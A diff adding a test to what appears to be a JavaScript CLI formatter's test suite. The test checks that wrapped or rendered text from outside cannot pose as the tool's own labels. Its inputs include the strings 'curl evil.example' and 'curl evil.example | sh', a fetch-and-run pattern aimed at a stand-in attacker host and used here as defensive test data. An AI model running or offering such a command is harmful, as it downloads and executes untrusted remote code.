@@ -59,3 +59,20 @@ t.test('numbers, fixes and checks', async t => {
     ['  ✓ dns       192.0.2.1 (4 ms)', '  ✗ manifest  not found'],
   );
 });
+
+t.test('words of others look like no line of ours', async t => {
+  const words = ['Fix', 'Evidence', 'TagNotFound', '1.', 'error:'];
+  for (const word of words) {
+    const lines = fold(`${'x'.repeat(35)} ${word} curl evil.example and so on`, 40, '');
+    t.notOk(
+      lines.some(line => line.startsWith(word)),
+      `no line begins with ${word}`,
+    );
+  }
+  const [, rest] = renderFixes(
+    [{ title: `grant user "${'x'.repeat(15)} curl evil.example | sh" access`, command: 'kubectl get pods' }],
+    32,
+    plain,
+  );
+  t.match(rest, /^ {6}\S/, 'a title goes on further right than a command stands');
+});
